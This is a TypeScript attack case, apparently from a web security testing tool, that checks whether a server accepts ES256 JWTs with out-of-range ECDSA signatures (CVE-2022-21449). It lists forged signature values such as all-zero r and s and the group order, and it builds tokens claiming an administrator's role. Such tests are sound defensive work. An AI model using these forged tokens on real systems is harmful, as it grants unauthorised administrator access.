import type { Attack } from '../../kinds/attack.ts';
import { signingInput } from '../../kit/tokens/compact-token.ts';
import { judgePresented, presentForged, statesClaims, type TokensSeen } from '../../kit/tokens/presented-token.ts';

/** Order of P-256 (FIPS 186-4 §D.1.2.3): r and s must lie between 0 and this. */
const order = 'ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551';
const zero = '00'.repeat(32);
const one = '01'.padStart(64, '0');
const fieldPrime = 'ffffffff00000001000000000000000000000000ffffffffffffffffffffffff';

/** Signatures that an equation without range checks holds for, whatever was signed; r and s as in RFC 7518 §3.4. */
const signatures: Readonly<Record<string, string>> = {
  'r = s = 0': zero + zero,
  'r = 0, s = 1': zero + one,
  'r = 1, s = 0': one + zero,
  'r = s = n': order + order,
  'r = n, s = 1': order + one,
  'r = p, s = p': fieldPrime + fieldPrime,
  'r = s = 2^256 - 1': 'f'.repeat(128),
  'r = s = 0 as DER': '3006020100020100',
  'r = s = n as DER': `3046022100${order}022100${order}`,
  'one zero byte': '00',
  'r = s = 0, too long': zero + zero + zero,
};

export default {
  kind: 'attack',
  id: 'psychic-signature',
  title: 'Psychic signatures',
  question: 'Does the server check that the two numbers of an ECDSA signature are in range?',
  goal: 'Become an administrator with a signature of zeros, which needs no key.',
  precondition: 'none',
  severity: 'critical',
  references: ['CWE-347', 'CVE-2022-21449', 'RFC 7518 §3.4', 'ASVS 9.1.1', 'WSTG-SESS-10', 'RFC 8725 §3.4'],
  steps: [
    'The server signs with ES256.',
    "The attacker puts the administrator's id and role into the claims of a token, under signatures whose r and s are 0, 1, the order of the group or larger, raw and as DER.",
    'They ask with each token who they are; at last once more with a genuine one.',
  ],
  fix: 'Refuse ECDSA signatures whose r or s is 0, or not below the order of the group: update the library that accepts them.',
  controls: ['ecdsa-range-unchecked'],
  needs: { settings: { algorithm: 'ES256' } },
  appliesTo: statesClaims,
  expected: () => 'blocked',

  attempt: (stage) =>
    presentForged(stage, ({ header }, claims) =>
      Object.entries(signatures).map(([mutation, hex]) => ({
        mutation,
        token: `${signingInput(header, claims)}.${Buffer.from(hex, 'hex').toString('base64url')}`,
      })),
    ),

  judge: (seen) => judgePresented(seen, 'signatures out of range'),
} satisfies Attack<TokensSeen>;
